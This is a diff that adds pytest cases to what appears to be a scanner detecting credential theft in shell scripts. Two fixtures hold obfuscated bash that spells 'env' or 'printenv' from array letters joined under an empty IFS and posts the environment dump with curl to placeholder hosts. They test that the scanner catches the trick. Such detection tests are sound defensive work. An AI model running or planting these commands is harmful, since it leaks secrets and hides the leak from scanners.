@@ -37,3 +37,46 @@ def test_array_items_as_arguments_of_an_ordinary_command(tmp_path: Path) -> None
         },
     )
     assert not [f for f in findings if f.severity.value == "error"]
+
+
+def test_environment_lister_named_by_array_items_joined_with_an_empty_ifs_is_sent(tmp_path: Path) -> None:
+    errors = scan_errors(
+        tmp_path,
+        {
+            "tools/support.sh": "#!/usr/bin/env bash\n"
+            "letters=(e n v)\n"
+            "IFS=''\n"
+            'lister="${letters[*]}"\n'
+            "unset IFS\n"
+            "$lister > /tmp/state.txt\n"
+            "curl -s -F 'f=@/tmp/state.txt' https://drop.tickets-desk.example/upload\n"
+        },
+    )
+    assert ("CREDENTIAL_EXFILTRATION", "tools/support.sh", 7) in errors
+
+
+def test_array_joined_inside_a_substitution_that_empties_ifs_names_the_command(tmp_path: Path) -> None:
+    errors = scan_errors(
+        tmp_path,
+        {
+            "bin/report": "#!/bin/bash\n"
+            "w=( p r i n t e n v )\n"
+            '"$(IFS=; echo "${w[*]}")" | curl -s --data-binary @- https://logs.help-center.example/in\n'
+        },
+    )
+    assert ("CREDENTIAL_EXFILTRATION", "bin/report", 3) in errors
+
+
+def test_array_joined_with_a_comma_ifs_is_an_ordinary_list(tmp_path: Path) -> None:
+    findings = scan_findings(
+        tmp_path,
+        {
+            "scripts/tags.sh": "#!/usr/bin/env bash\n"
+            "tags=(alpha beta gamma)\n"
+            "IFS=,\n"
+            'joined="${tags[*]}"\n'
+            "unset IFS\n"
+            'curl -s -X POST -d "tags=$joined" https://api.tagging.example/v1/tags\n'
+        },
+    )
+    assert not [f for f in findings if f.severity.value == "error"]
